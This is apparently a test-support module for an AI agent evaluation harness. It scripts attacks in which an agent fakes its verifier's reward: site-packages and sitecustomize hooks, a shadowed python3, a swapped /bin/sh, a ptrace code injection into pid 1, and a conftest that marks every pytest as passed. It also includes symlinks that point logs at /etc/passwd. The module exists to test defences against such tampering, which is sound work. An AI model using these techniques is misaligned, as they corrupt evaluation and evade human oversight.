"""Attacks of issue 30 (the verifier must run where the agent never ran; no download follows a link),
shared by the container and local suites. Each is a scripted bash turn of the builtin agent; the model
provider (`scripted`) is the one test double."""

from __future__ import annotations

import os
from pathlib import Path

# Python hooks in site-packages: they run in every python of the container, the verifier's included
PTH_HOOK = (
    'd=$(python3 -c "import site; print(site.getsitepackages()[0])") && mkdir -p "$d" && '
    'printf \'%s\\n\' \'import atexit; atexit.register(lambda: open("/logs/verifier/reward.txt", "w").write("1.0\\n"))\' '
    '> "$d/zz-hook.pth" && echo planted "$d"'
)
# the sitecustomize python loads (Debian's is a link in the stdlib dir, ahead of site-packages)
SITECUSTOMIZE = (
    'f=$(python3 -c "import sitecustomize; print(sitecustomize.__file__)" 2>/dev/null) || '
    'f=$(python3 -c "import site; print(site.getsitepackages()[0])")/sitecustomize.py; rm -f "$f"; '
    "printf '%s\\n' 'import atexit' "
    '\'atexit.register(lambda: open("/logs/verifier/reward.txt", "w").write("1.0\\n"))\' '
    '> "$f" && echo planted "$f"'
)
# a python3 earlier on PATH that runs the real one, then writes the reward
PATH_PYTHON = (
    "printf '%s\\n' '#!/bin/sh' '/usr/bin/python3 \"$@\"; s=$?; echo 1.0 > /logs/verifier/reward.txt; exit $s' "
    "> /usr/local/bin/python3 && chmod 755 /usr/local/bin/python3 && echo planted"
)
# /bin/sh swapped for a script that starts a reward writer, then a forced restart of the container (an
# orphan left to become a zombie), so that the container's pid 1 (`/bin/sh -c ...` at start) is the
# agent's program while the verifier runs
SH_SWAP_RESTART = (
    "printf '%s\\n' '#!/bin/dash' "
    "'(while :; do echo 1.0 > /logs/verifier/reward.txt 2>/dev/null; sleep 0.05; done) </dev/null >/dev/null 2>&1 &' "
    "'exec /bin/dash \"$@\"' > /bin/sh.new && chmod 755 /bin/sh.new && mv -f /bin/sh.new /bin/sh && "
    "(sh -c 'sleep 0.1' &) && sleep 0.5 && echo swapped"
)
# pid-1 takeover by ptrace (root in the container may trace its pid 1): the agent makes pid 1 execve a
# reward writer, which `kill -9 -1` at the end of the agent phase never reaches
_PTRACE_INJECT = """\
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
names = "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss fs_base gs_base ds es fs gs"
class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in names.split()]
def pt(req, addr=0, data=0):
    r = libc.ptrace(req, 1, ctypes.c_void_p(addr), ctypes.c_void_p(data) if isinstance(data, int) else data)
    if r == -1 and ctypes.get_errno():
        raise OSError(ctypes.get_errno(), f"ptrace {req}")
    return r
pt(16)  # PTRACE_ATTACH
os.waitpid(1, 0x40000000)  # __WALL
regs = Regs()
pt(12, 0, ctypes.byref(regs))  # GETREGS
base = (regs.rsp - 16384) & ~0xF
prog, script = b"/bin/bash\\0", sys.argv[1].encode() + b"\\0"
blob = prog + script
blob += b"\\0" * (-len(blob) % 8)
argv = base + len(blob)
blob += struct.pack("<QQQ", base, base + len(prog), 0)
for i in range(0, len(blob), 8):
    pt(5, base + i, struct.unpack("<Q", blob[i:i + 8])[0])  # POKEDATA
word = ctypes.c_ulong(libc.ptrace(2, 1, ctypes.c_void_p(regs.rip), None) & 0xFFFFFFFFFFFFFFFF)  # PEEKTEXT
pt(4, regs.rip, (word.value & ~0xFFFF) | 0x050F)  # POKETEXT: syscall
regs.rax, regs.rdi, regs.rsi, regs.rdx, regs.orig_rax = 59, base, argv, 0, 0xFFFFFFFFFFFFFFFF
pt(13, 0, ctypes.byref(regs))  # SETREGS
pt(17)  # DETACH
print("injected")
"""
_REWARD_LOOP = """\
mkfifo /tmp/evil-fifo 2>/dev/null; exec 3<>/tmp/evil-fifo
while :; do echo 1.0 > /logs/verifier/reward.txt 2>/dev/null; read -t 0.05 -u 3; done
"""
PID1_PTRACE = (
    f"cat > /tmp/inject.py <<'PY'\n{_PTRACE_INJECT}PY\ncat > /tmp/evil.sh <<'SH'\n{_REWARD_LOOP}SH\n"
    "python3 /tmp/inject.py /tmp/evil.sh && sleep 0.3; tr '\\0' ' ' < /proc/1/cmdline > /logs/agent/pid1.txt; "
    "cat /logs/agent/pid1.txt"
)
# pytest's rootdir search climbs from the verifier's dir to /: a pytest.ini there makes / the rootdir and
# its conftest.py a plugin that passes every test
PYTEST_CONFTEST = (
    "printf '[pytest]\\n' > /pytest.ini && printf '%s\\n' 'import pytest' "
    "'@pytest.hookimpl(hookwrapper=True)' 'def pytest_runtest_makereport(item, call):' "
    "'    outcome = yield' '    outcome.get_result().outcome = \"passed\"' > /conftest.py && echo planted"
)
PYTEST_VERIFIER = """\
mkdir -p /logs/verifier
cd "$(dirname "$0")"
if python3 -m pytest -q -p no:cacheprovider test_answer.py; then r=1.0; else r=0.0; fi
echo "$r" > /logs/verifier/reward.txt
"""
PYTEST_TEST = """\
import pathlib


def test_answer():
    answer = pathlib.Path("/app/answer.txt")
    assert answer.is_file() and answer.read_text().strip() == "42"
"""
# links in the agent's logs: /logs/agent itself made a link to /etc, or links inside it to host files
AGENT_LOGS_LINK = "mv /logs/agent /logs/agent.old && ln -s /etc /logs/agent && echo linked"
AGENT_LOG_LINKS_INSIDE = "ln -s /etc/passwd /logs/agent/passwd && ln -s /etc /logs/agent/etc && echo linked"
# a link the (honest) verifier copies into its own logs, as verifiers that keep the agent's outputs do
VERIFIER_LOG_LINK = "ln -s /etc/passwd /app/report.txt && ln -s /etc /app/etc-dir && echo linked"
COPYING_VERIFIER = """\
mkdir -p /logs/verifier/outputs
cp -a /app/. /logs/verifier/outputs/ 2>/dev/null
if grep -qx 42 /app/answer.txt 2>/dev/null; then r=1.0; else r=0.0; fi
echo "$r" > /logs/verifier/reward.txt
"""
# special files and a sparse file (1 GiB apparent, nothing on disk: over the 512 MiB per-file cap)
FIFO_SPARSE = (
    "mkfifo /logs/agent/pipe /app/pipe && truncate -s 1G /logs/agent/huge.bin /app/huge.bin && "
    "echo small > /logs/agent/small.txt && echo made"
)
# an honest solver, one that also writes outside the workdir, and one that writes a declared input
SOLVE = "echo 42 > /app/answer.txt && echo solved"
SOLVE_AND_STRAY = "echo 42 > /app/answer.txt && mkdir -p /srv/stray && echo x > /srv/stray/notes.txt && echo solved"
SOLVE_DECLARED = "mkdir -p /srv/result && echo 42 > /srv/result/answer.txt && echo solved"
DECLARED_VERIFIER = """\
mkdir -p /logs/verifier
if grep -qx 42 /srv/result/answer.txt 2>/dev/null; then r=1.0; else r=0.0; fi
echo "$r" > /logs/verifier/reward.txt
"""

PYTEST_PACKAGES = ("pytest", "_pytest", "pluggy", "iniconfig", "packaging", "pygments", "py.py")


def add_pytest_to_context(env_dir: Path) -> str:
    """Put the host's pure-python pytest into a task's build context (no network at build): the
    Dockerfile lines that install it into the image's site-packages."""
    import shutil

    import pytest as _pytest_module

    site = Path(_pytest_module.__file__).resolve().parents[1]
    lib = env_dir / "pylib"
    lib.mkdir(parents=True, exist_ok=True)
    for name in PYTEST_PACKAGES:
        src = site / name
        if src.is_dir():
            shutil.copytree(src, lib / name, ignore=shutil.ignore_patterns("__pycache__"))
        elif src.is_file():
            shutil.copy2(src, lib / name)
    return "COPY pylib/ /usr/local/lib/python3.11/dist-packages/\n"


def host_bytes_in(run_dir: Path) -> list[str]:
    """Paths of the run dir that are links (a link there resolves on the host), FIFOs, or files holding
    the host's /etc/passwd: none may exist."""
    bad: list[str] = []
    passwd = Path("/etc/passwd").read_bytes()
    for dirpath, dirnames, filenames in os.walk(run_dir):
        for name in [*dirnames, *filenames]:
            path = Path(dirpath) / name
            if path.is_symlink():
                bad.append(f"link {path} -> {os.readlink(path)}")
            elif path.is_fifo():
                bad.append(f"fifo {path}")
            elif path.is_file() and path.stat().st_size == len(passwd) and path.read_bytes() == passwd:
                bad.append(f"host /etc/passwd at {path}")
    return bad


def apparent_size(path: Path) -> int:
    return sum(p.lstat().st_size for p in path.rglob("*"))
